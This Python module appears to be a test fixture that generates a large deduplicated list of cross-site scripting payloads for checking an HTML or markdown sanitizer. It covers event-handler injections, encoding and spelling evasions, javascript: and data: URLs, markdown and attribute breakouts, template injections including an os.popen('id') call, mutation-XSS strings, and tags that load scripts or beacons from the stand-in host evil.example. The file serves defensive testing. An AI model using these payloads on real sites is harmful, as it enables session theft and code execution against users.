"""Texts that try to run a script, or to fetch from another host, wherever they are shown.

Each calls `xss()`, which a test defines, or fetches from `evil.example`. The kinds are those of
OWASP's cheat sheets on cross-site scripting; the texts are our own.
"""

from collections.abc import Iterator

RUN = "xss()"

_ON_ERROR = (
    "img src=x",
    "audio src=x",
    "video src=x",
    "image href=x",
    "script src=x",
    "input type=image src=x",
)
_ON_LOAD = (
    "svg",
    "body",
    "iframe",
    "style",
    "link rel=stylesheet href=/shop.css",
    "object data=/en",
)
_ON_FOCUS = (
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a tabindex=0 autofocus",
    "div contenteditable autofocus",
)
_ON_ANYTHING = (
    "<details open ontoggle={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<video><source onerror={0}></video>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributeName=x>",
    "<svg><image href=x onerror={0} />",
    "<p onpointerenter={0} style=position:fixed;inset:0>x</p>",
    "<form onsubmit={0}><button>go</button></form>",
    "<a href=# onclick={0}>click</a>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={0}>x</b>",
    "<b style=transition:1s ontransitionend={0}>x</b>",
    "<dialog open onclose={0}><form method=dialog><button>x</button></form></dialog>",
    "<xss id=x tabindex=1 onfocus={0}></xss>",
    "<body onhashchange={0}><a href=#x>x</a>",
    "<input popovertarget=p><div popover id=p onbeforetoggle={0}>x</div>",
)
_SPELLINGS = (
    '<img src=x onerror="{0}">',
    "<img src=x onerror='{0}'>",
    "<img src=x onerror=`{0}`>",
    "<img/src=x/onerror={0}>",
    "<img\nsrc=x\nonerror={0}>",
    "<img\tsrc=x\tonerror\t=\t{0}>",
    "<img\fsrc=x\fonerror={0}>",
    "<IMG SRC=X ONERROR={0}>",
    "<iMg sRc=x oNeRrOr={0}>",
    "<img src=x onerror={0}",
    "<<img src=x onerror={0}>>",
    "< img src=x onerror={0}>",
    "<img src=x onerror=&#120;ss()>",
    "<img src=x:x onerror&#61;{0}>",
    "&lt;img src=x onerror={0}&gt;",
    "&amp;lt;img src=x onerror={0}&amp;gt;",
    "&#60;img src=x onerror={0}&#62;",
    "&#x3c;img src=x onerror={0}&#x3e;",
    "\\u003cimg src=x onerror={0}\\u003e",
    "\\x3cimg src=x onerror={0}\\x3e",
    "%3Cimg%20src=x%20onerror={0}%3E",
    "+ADw-img src=x onerror={0}+AD4-",
    "\uff1cimg src=x onerror={0}\uff1e",
    "\u2039img src=x onerror={0}\u203a",
    "\u202e<img src=x onerror={0}>",
    "<\u200bimg src=x onerror={0}>",
    "<img\u00a0src=x\u00a0onerror={0}>",
    "<img src=x\u2028onerror={0}>",
    "<\u017fcript>{0}</\u017fcript>",
    "<img title='{0}' src=x onerror=eval(title)>",
)
_SCRIPTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script >{0}</script >",
    "<script\n>{0}</script\n>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script type=module>{0}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{0}></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href=data:text/javascript,{0} /></svg>",
    "<svg><script>&#120;ss()</script></svg>",
    "<math><script>{0}</script></math>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><script>{0}</script>'>",
    "<!--><script>{0}</script>-->",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "<![CDATA[<script>{0}</script>]]>",
    "</script><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</template><script>{0}</script>",
    "</bdi></p></article><script>{0}</script>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{0}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>parent.{0}</script>'></object>",
)
_ADDRESSES = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    "java\nscript:xss()",
    "\x01javascript:xss()",
    " javascript:xss()",
    "javascript&colon;xss()",
    "java&#115;cript:xss()",
    "&#x6A;avascript:xss()",
    "javascript:/*https://maison-lune.example*/xss()",
    "javascript://maison-lune.example/%0axss()",
    "vbscript:xss()",
    "data:text/html,<script>opener.xss()</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:javascript:xss()",
)
_LINKS = (
    "{0}",
    "<a href='{0}'>click</a>",
    "[click]({0})",
    "![picture]({0})",
    "<{0}>",
    "[click][1]\n\n[1]: {0}",
)
_MARKDOWN = (
    "[click](https://maison-lune.example \"x' onmouseover='xss()\")",
    '[click](https://maison-lune.example "><img src=x onerror=xss()>")',
    "[<img src=x onerror=xss()>](https://maison-lune.example)",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="xss()](x)',
    "[![x](https://evil.example/pixel.png)](javascript:xss())",
    'https://maison-lune.example/"onmouseover="xss()',
    "https://maison-lune.example/<img/src=x/onerror=xss()>",
    "https://maison-lune.example/'><script>xss()</script>",
    "https://maison-lune.example@evil.example/",
    "**<img src=x onerror=xss()>**",
    "- <img src=x onerror=xss()>\n- <script>xss()</script>",
    "`<img src=x onerror=xss()>`",
    "```html\n<script>xss()</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=xss()> | <script>xss()</script> |",
    "> <svg onload=xss()>",
    "# <svg onload=xss()>",
    '<https://maison-lune.example/"onclick=xss()>',
    "mailto:x@shop.example?subject=<script>xss()</script>",
    "tel:<svg/onload=xss()>",
)
_ATTRIBUTES = (
    '" onmouseover=xss() x="',
    "' onmouseover=xss() x='",
    '" autofocus onfocus=xss() x="',
    "' autofocus tabindex=0 onfocus=xss() x='",
    '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>",
    '\\"><svg onload=xss()>',
    "` onmouseover=xss() `",
    '"/><script>xss()</script>',
    'x" style="background:url(https://evil.example/p)" y="',
    "x' srcset='https://evil.example/p 1x' y='",
    'x" href="javascript:xss()" y="',
)
_SCRIPT_CONTEXTS = (
    "';xss();//",
    '";xss();//',
    "\\';xss();//",
    "`;xss();//",
    "${xss()}",
    "*/xss()/*",
    "\u2028xss()//",
    "</script>xss()",
    '{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}',
    "]});xss();//",
)
_TEMPLATES = (
    "{{constructor.constructor('xss()')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('xss()')}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in () %}{% endfor %}{{ 7*7 }}",
    "<%= xss() %>",
    "#{xss()}",
    "[[${xss()}]]",
    "{!! xss() !!}",
    "@(xss())",
    "<div v-html=\"'<img src=x onerror=xss()>'\"></div>",
    "<div ng-app ng-csp><input autofocus ng-focus=xss()></div>",
    "<x data-bind=\"html:'<svg onload=xss()>'\"></x>",
)
_FETCHES = (
    "<img src=https://evil.example/p>",
    "<img srcset='https://evil.example/p 1x'>",
    "<picture><source srcset=https://evil.example/p><img src=x></picture>",
    "<video poster=https://evil.example/p></video>",
    "<audio src=https://evil.example/p></audio>",
    "<iframe src=https://evil.example/></iframe>",
    "<embed src=https://evil.example/p>",
    "<object data=https://evil.example/p></object>",
    "<link rel=stylesheet href=https://evil.example/p>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<style>@import url(https://evil.example/p)</style>",
    "<style>*{background:url(https://evil.example/p)}</style>",
    "<b style='background:url(https://evil.example/p)'>x</b>",
    "<table background=https://evil.example/p><tr><td>x</table>",
    "<form action=https://evil.example/><input name=x><button autofocus>Send</button></form>",
    "<input type=image src=https://evil.example/p>",
    "<svg><use href=https://evil.example/p#x /></svg>",
    "<a href=x ping=https://evil.example/p>x</a>",
)
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;svg onload=xss()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=xss()>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    "<select><template><img src=x onerror=xss()></template></select>",
    "<xmp><p title='</xmp><svg/onload=xss()>'>",
    "<textarea><p title='</textarea><svg/onload=xss()>'>",
    "<form id=log><input name=innerHTML></form>",
    "<img name=body><img name=querySelector>",
    "<a id=x><a id=x name=y href='javascript:xss()'>x</a></a>",
)


def hostile_texts() -> list[str]:
    """Return all texts, each once."""
    return list(dict.fromkeys(_texts()))


def _texts() -> Iterator[str]:
    for event, tags in (("onerror", _ON_ERROR), ("onload", _ON_LOAD), ("onfocus", _ON_FOCUS)):
        yield from (f"<{tag} {event}={RUN}>" for tag in tags)
    for kind in (_ON_ANYTHING, _SPELLINGS, _SCRIPTS):
        yield from (one.format(RUN) for one in kind)
    yield from (link.format(address) for address in _ADDRESSES for link in _LINKS)
    yield from (*_MARKDOWN, *_ATTRIBUTES, *_SCRIPT_CONTEXTS, *_TEMPLATES, *_FETCHES, *_MUTATIONS)
